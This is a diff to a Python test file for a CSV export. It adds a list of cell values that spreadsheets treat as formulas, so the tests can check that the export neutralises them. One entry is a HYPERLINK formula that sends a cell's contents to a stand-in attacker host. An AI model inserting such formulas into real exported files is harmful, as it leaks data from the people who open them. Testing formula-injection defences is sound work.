@@ -10,6 +10,22 @@ from meetings.models import Meeting, Organisation, Topic
 from recommendations.exports import COLUMNS
 from recommendations.models import AffectedGroup
 
+# Texts that begin like a formula as Excel and LibreOffice read a cell (OWASP's list), which
+# the CSV export prefixes with a quote, and texts that genuinely begin with a quote (prefixed
+# too, so that the prefix is never ambiguous).
+FORMULA_LIKE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "+7 (7172) 72-00-00",
+    "-1 day",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return",
+    "\nline feed",
+    "'quoted'",
+    "''twice",
+    "'=already quoted",
+]
+
 
 def csv_bytes(records: list[dict], *, columns: list[str] = COLUMNS, bom: bool = True) -> bytes:
     """A CSV file as the export writes it: a byte-order mark, a header, one line per record."""
